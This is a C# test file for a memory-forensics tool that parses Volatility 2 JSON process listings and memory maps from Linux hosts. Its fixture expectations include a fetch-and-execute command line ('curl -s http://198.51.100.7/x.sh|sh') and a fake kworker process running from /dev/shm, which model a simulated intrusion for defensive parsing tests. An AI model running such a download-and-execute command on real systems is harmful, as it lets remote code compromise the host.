using EksIr.Core.Evidence;
using EksIr.Memory;
using EksIr.Memory.Volatility;

namespace EksIr.Core.Tests.Memory;

/// <summary>
/// Volatility 2's <c>--output=json</c>: JSONRenderer (volatility/renderers/html.py at the tag 2.6.1) writes
/// json.dumps({"columns": [names], "rows": [[values]]}) — a Python dict, so either key may come first — with each
/// plugin's unified_output columns (volatility/plugins/linux/{pslist,pstree,psaux,bash,proc_maps}.py at 2.6.1). The
/// files under Memory/Renderers/*.vol2.json were written by render.py in that shape from its own table, which is where
/// every expected value here comes from.
/// </summary>
public sealed class Volatility2JsonTests
{
    private static readonly EvidenceRoot Renderers = new(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers"));

    [Fact]
    public void A_pstree_table_gives_parents_depths_from_its_level_dots_and_kernel_threads_without_brackets()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux_pstree.vol2.json");

        Assert.Equal("volatility2 linux_pstree (json)", listing.Format);
        Assert.Empty(listing.Problems);
        Assert.Equal(
            [(1, 0, "systemd", 0), (830, 1, "containerd", 1), (3310, 1, "containerd-shim", 1), (3342, 3310, "pause", 2), (3401, 3310, "nginx", 2),
             (5120, 3401, "sh", 3), (5188, 5120, "kworker/0:2", 4), (2, 0, "kthreadd", 0), (9, 2, "kworker/0:1H", 1)],
            listing.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
        Assert.Equal("[kworker/0:1H]", listing.Rows.Single(r => r.Pid == 9).Args);
        Assert.Equal(65535L, listing.Rows.Single(r => r.Pid == 3342).Uid);

        var tree = ProcessTree.Build([listing], null);
        Assert.Equal([0, 1, 1, 2, 2, 3, 4, 0, 1], tree.Processes.Select(p => p.Depth));
    }

    [Fact]
    public void A_pslist_table_has_no_parent_column_and_says_so_while_keeping_uids_and_start_times()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux_pslist.vol2.json");

        Assert.Equal("volatility2 linux_pslist (json, no PPid column)", listing.Format);
        Assert.Empty(listing.Problems);
        Assert.False(listing.HasParents);
        Assert.StartsWith("this output has no parent PIDs (Volatility 2's linux_pslist JSON", Assert.Single(listing.Notes));
        Assert.Equal((33L, "2026-11-29 06:25:00 UTC+0000"), (listing.Rows.Single(r => r.Pid == 5120).Uid!.Value, listing.Rows.Single(r => r.Pid == 5120).StartTime));
        Assert.Equal([1, 830, 3310, 3342, 3401, 5120, 5188, 2, 9], listing.Rows.Select(r => r.Pid));
    }

    [Fact]
    public void A_psaux_table_beside_the_pstree_table_gives_the_tree_its_command_lines()
    {
        var psaux = ProcessListingReader.Read(Renderers, "linux_psaux.vol2.json");
        var tree = ProcessTree.Build([ProcessListingReader.Read(Renderers, "linux_pstree.vol2.json"), psaux], null);

        Assert.Equal("volatility2 linux_psaux (json)", psaux.Format);
        Assert.Empty(psaux.Problems);
        Assert.Equal("sh -c \"curl -s http://198.51.100.7/x.sh|sh\", then \\wait", tree.Processes.Single(p => p.Pid == 5120).Args);
        Assert.Equal("/dev/shm/kworker/0:2\t-daemon\nsecond line", tree.Processes.Single(p => p.Pid == 5188).Args);
    }

    [Fact]
    public void Either_key_order_is_read_alike()
    {
        var text = File.ReadAllText(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", "linux_pstree.vol2.json"));
        var rowsAt = text.IndexOf(", \"rows\": ", StringComparison.Ordinal);
        var swapped = "{" + text[(rowsAt + 2)..^1] + ", " + text[1..rowsAt] + "}";
        Assert.StartsWith("{\"rows\": [[", swapped);

        var listing = ProcessListingReader.Parse(swapped, "pstree.json");

        Assert.Equal(ProcessListingReader.Read(Renderers, "linux_pstree.vol2.json").Rows.Select(r => (r.Pid, r.Ppid, r.Depth)), listing.Rows.Select(r => (r.Pid, r.Ppid, r.Depth)));
    }

    [Fact]
    public void A_bash_table_is_named_as_shell_history_and_read_as_no_processes()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux_bash.vol2.json");

        Assert.Empty(listing.Rows);
        Assert.Equal("Volatility 2 linux_bash (shell history)", listing.Format);
    }

    [Fact]
    public void A_table_of_unknown_columns_or_rows_of_the_wrong_width_are_named_and_the_good_rows_kept()
    {
        var unknown = ProcessListingReader.Parse("{\"columns\": [\"Pid\", \"Weird\"], \"rows\": [[1, 2]]}", "x.json");
        var ragged = ProcessListingReader.Parse("{\"columns\": [\"Arguments\", \"Pid\", \"Uid\", \"Gid\"], \"rows\": [[\"/sbin/init\", 1, 0, 0], [\"x\", 7], 5]}", "psaux.json");
        var notATable = ProcessListingReader.Parse("{\"columns\": \"Pid\", \"rows\": []}", "y.json");

        Assert.Empty(unknown.Rows);
        Assert.Contains("(Pid, Weird) are not those of linux_pslist, linux_pstree or linux_psaux", Assert.Single(unknown.Problems).Problem);
        Assert.Equal([1], ragged.Rows.Select(r => r.Pid));
        Assert.Equal([("row 2", "2 values for 4 columns; skipped"), ("row 3", "not a list of values; skipped")], ragged.Problems.Select(p => (p.Where, p.Problem)));
        Assert.StartsWith("not Volatility 2's JSON table", Assert.Single(notATable.Problems).Problem);
    }

    [Fact]
    public void A_proc_maps_table_gives_each_region_and_an_anonymous_one_no_file()
    {
        var maps = ProcessMaps.Of(Renderers, "linux_proc_maps.vol2.json", 5188);

        Assert.Empty(maps.Problems);
        Assert.Equal([(0x400000UL, 0x6f2000UL, "r-x", (string?)"/dev/shm/kworker/0:2 (deleted)"), (0x7f3a1c000000UL, 0x7f3a1c021000UL, "rwx", null)],
            maps.Regions.Select(r => (r.Start, r.End, r.Protection, r.Path)));
    }
}
